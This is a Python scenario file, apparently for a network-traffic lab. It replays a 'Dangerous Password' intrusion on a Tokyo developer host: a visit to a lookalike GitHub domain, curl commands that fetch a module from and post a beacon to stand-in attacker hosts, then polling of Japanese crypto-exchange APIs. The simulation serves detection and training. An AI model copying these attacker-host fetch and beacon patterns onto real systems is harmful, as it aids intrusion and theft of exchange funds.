# SPDX-License-Identifier: Apache-2.0
"""Dangerous Password in Japan: a developer of an exchange runs a tainted Python module; from the same
host, within the hour, someone speaks to the APIs of Japanese exchanges. Names: JPCERT/CC, July 2023."""

START = "2023-07-12 01:30:15"
LAN = "10.25.9.0/24"
ACTOR = {"git-hub.me": "203.0.113.80", "checkdevinc.com": "203.0.113.81", "pkginstall.net": "203.0.113.82"}
EXCHANGES = {"api.bitflyer.com": "198.51.100.60", "api.coin.z.com": "198.51.100.61",
             "api.bitbank.cc": "198.51.100.62"}
SHOWS = {"dns": [*ACTOR, *EXCHANGES], "sni": [*ACTOR, *EXCHANGES], "host": []}


def play(lab):
    developer = lab.host("dev-tokyo-7", 107)
    for name, address in ACTOR.items():
        lab.site(name, address, {"/module.txt": lab.bytes(3000)})
    for name, address in EXCHANGES.items():
        lab.site(name, address, {"/": '{"status":0}'})
    with lab.recording():
        lab.browse(developer, "https://git-hub.me/")
        lab.later(minutes=3)
        lab.curl(developer, "-A", "Python-urllib/3.10", "https://checkdevinc.com/module.txt")
        lab.later(minutes=1)
        lab.curl(developer, "-A", "", "-d", "d=1", "https://pkginstall.net/")
        lab.later(minutes=38)
        lab.play(developer, "poll.py", lab.authority.certificate,
                 *(f"https://{name}/v1/assets" for name in EXCHANGES))
